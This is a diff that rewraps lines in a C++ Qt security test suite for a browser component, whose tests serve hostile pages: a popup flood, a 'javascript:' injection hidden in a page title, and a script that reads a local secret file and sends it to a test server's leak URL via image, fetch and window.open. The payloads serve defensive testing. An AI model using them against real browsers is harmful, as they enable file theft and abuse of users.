@@ -59,12 +59,15 @@ private slots:
         m_server->setPage(QStringLiteral("/home"), page("Home Page"));
         m_server->setPage(QStringLiteral("/a"), page("Page A"));
         m_server->setPage(QStringLiteral("/leak"), page("leak"));
-        m_server->setPage(QStringLiteral("/flood"),
-                         page("Flood", "<button id='b' style='position:fixed;left:0;top:0;width:100%;height:100%'"
-                                       " onclick=\"for(var i=0;i<300;i++)window.open('');document.title='flooded'\">go</button>"));
+        m_server->setPage(
+            QStringLiteral("/flood"),
+            page("Flood",
+                 "<button id='b' style='position:fixed;left:0;top:0;width:100%;height:100%'"
+                 " onclick=\"for(var i=0;i<300;i++)window.open('');document.title='flooded'\">go</button>"));
         m_env = std::make_unique<TestEnvironment>();
         QVERIFY(QDir().mkpath(m_env->programDir() + QStringLiteral("/_data")));
-        SetRegistryValue(HKEY_LOCAL_MACHINE, kSettingsKey, QStringLiteral("HomePage"), m_server->url(QStringLiteral("/home")));
+        SetRegistryValue(HKEY_LOCAL_MACHINE, kSettingsKey, QStringLiteral("HomePage"),
+                         m_server->url(QStringLiteral("/home")));
     }
     void cleanup()
     {
@@ -93,9 +96,10 @@ private slots:
     void historyEntryCannotCarryAScript()
     {
         QVERIFY(m_env->installComponents(NAVKIT_LIBRARY));
-        m_server->setPage(QStringLiteral("/nice"),
-                          "<html><head><meta charset='utf-8'><title>Nice page&gt;\xc2\xa4&lt;javascript:document.title='pwned'"
-                          "</title></head><body>nice</body></html>");
+        m_server->setPage(
+            QStringLiteral("/nice"),
+            "<html><head><meta charset='utf-8'><title>Nice page&gt;\xc2\xa4&lt;javascript:document.title='pwned'"
+            "</title></head><body>nice</body></html>");
         auto main = start();
         QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
         Form2 *tab = tabAt(main.get(), 1);
@@ -142,13 +146,21 @@ private slots:
         QVERIFY(html.open(QIODevice::WriteOnly));
         html.write("<html><head><title>start</title></head><body><script>\n"
                    "var got='blocked';\n"
-                   "try { var x=new XMLHttpRequest(); x.open('GET','" + QUrl::fromLocalFile(secret.fileName()).toEncoded() + "',false);"
-                   " x.send(); got=x.responseText; } catch(e) {}\n"
-                   "new Image().src='" + leak.toUtf8() + "?img='+got;\n"
-                   "fetch('" + leak.toUtf8() + "?fetch='+got).catch(function(){});\n"
-                   "window.open('" + leak.toUtf8() + "?open='+got);\n"
-                   "document.title='read:'+got;\n"
-                   "</script></body></html>");
+                   "try { var x=new XMLHttpRequest(); x.open('GET','"
+                   + QUrl::fromLocalFile(secret.fileName()).toEncoded()
+                   + "',false);"
+                     " x.send(); got=x.responseText; } catch(e) {}\n"
+                     "new Image().src='"
+                   + leak.toUtf8()
+                   + "?img='+got;\n"
+                     "fetch('"
+                   + leak.toUtf8()
+                   + "?fetch='+got).catch(function(){});\n"
+                     "window.open('"
+                   + leak.toUtf8()
+                   + "?open='+got);\n"
+                     "document.title='read:'+got;\n"
+                     "</script></body></html>");
         html.close();
         auto main = start();
         QVERIFY(waitLoaded(main.get(), 1, m_server->url(QStringLiteral("/home"))));
@@ -188,10 +200,12 @@ private slots:
             QSKIP("openssl is not installed");
         QTemporaryDir dir;
         QProcess make;
-        make.start(openssl, {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"), QStringLiteral("rsa:2048"),
-                             QStringLiteral("-nodes"), QStringLiteral("-subj"), QStringLiteral("/CN=127.0.0.1"), QStringLiteral("-days"),
-                             QStringLiteral("2"), QStringLiteral("-keyout"), dir.filePath(QStringLiteral("key.pem")),
-                             QStringLiteral("-out"), dir.filePath(QStringLiteral("cert.pem"))});
+        make.start(openssl,
+                   {QStringLiteral("req"), QStringLiteral("-x509"), QStringLiteral("-newkey"),
+                    QStringLiteral("rsa:2048"), QStringLiteral("-nodes"), QStringLiteral("-subj"),
+                    QStringLiteral("/CN=127.0.0.1"), QStringLiteral("-days"), QStringLiteral("2"),
+                    QStringLiteral("-keyout"), dir.filePath(QStringLiteral("key.pem")), QStringLiteral("-out"),
+                    dir.filePath(QStringLiteral("cert.pem"))});
         QVERIFY(make.waitForFinished(60000));
         QFile cert(dir.filePath(QStringLiteral("cert.pem")));
         QFile key(dir.filePath(QStringLiteral("key.pem")));
